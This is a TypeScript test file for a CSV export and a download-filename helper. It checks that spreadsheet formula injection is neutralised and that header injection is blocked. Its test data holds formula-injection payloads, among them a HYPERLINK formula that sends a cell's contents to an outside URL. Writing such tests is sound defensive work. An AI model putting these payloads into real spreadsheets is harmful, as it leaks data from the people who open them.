import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { attachment } from "#app/files/attachment.ts";
import { csvFile, csvText } from "#app/files/csv.ts";

function readCsv(csv: string): string[][] {
  return parse(csv, { bom: true });
}

describe("a CSV file", () => {
  it("begins with a byte order mark and ends its lines with CRLF, as spreadsheets want it", () => {
    const csv = csvFile(["問", "件数"], [["必要", 12]]);
    expect(csv).toBe("\ufeff問,件数\r\n必要,12\r\n");
  });

  it("keeps numbers, also negative ones, and writes nothing for what is missing", () => {
    expect(readCsv(csvFile(["a", "b", "c", "d"], [[-3.5, null, undefined, true]]))[1]).toEqual([
      "-3.5",
      "",
      "",
      "はい",
    ]);
  });

  it("defends texts that a spreadsheet would run", () => {
    const dangerous = [
      '=HYPERLINK("https://example.jp/?"&A1,"ここ")',
      "+81-595-22-9600",
      "-1+1",
      "@SUM(A1:A9)",
      "\t=1+1",
      " =1+1",
      "\r=1",
      "＝1＋1",
    ];
    const [, ...rows] = readCsv(
      csvFile(
        ["x"],
        dangerous.map((text) => [text]),
      ),
    );
    expect(rows.flat().every((cell) => cell.startsWith("'"))).toBe(true);
    expect(rows.flat().map(csvText)).toEqual(dangerous);
  });

  it("defends its headings too", () => {
    expect(readCsv(csvFile(["=1+1"], []))).toEqual([["'=1+1"]]);
  });

  it("leaves ordinary sentences alone", () => {
    const sentences = [
      "第1条　この条例は、",
      "「必要」と答えた。",
      "'引用'",
      "3-5人",
      "",
      "改行\nあり",
    ];
    expect(
      readCsv(
        csvFile(
          ["x", "y"],
          sentences.map((text) => [text, "z"]),
        ),
      ).slice(1),
    ).toEqual(sentences.map((text) => [text, "z"]));
  });

  it("gives every table back, and no cell of it begins like a formula", () => {
    const cell = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc.string({ unit: fc.constantFrom(..."=+-@'\"\t\r\n, ＝＋あ1") }),
    );
    const table = fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(table, (rows) => {
        const [, ...read] = readCsv(csvFile(["a", "b", "c"], rows));
        expect(read.map((row) => row.map(csvText))).toEqual(rows);
        expect(read.flat().filter((text) => /^\s*[=+\-@＝＋－＠]/u.test(text))).toEqual([]);
      }),
    );
  });
});

describe("the name of a download", () => {
  it("is Japanese for today's browsers and plain for old ones", () => {
    expect(attachment("中間案(第1号).pdf")).toBe(
      "attachment; filename=\"_1_.pdf\"; filename*=UTF-8''%E4%B8%AD%E9%96%93%E6%A1%88%28%E7%AC%AC1%E5%8F%B7%29.pdf",
    );
  });

  it("cannot break out of the header", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (name) => {
        expect(attachment(name)).toMatch(
          /^attachment; filename="[\w.-]*"; filename\*=UTF-8''[\w.!~%-]*$/,
        );
      }),
    );
  });
});
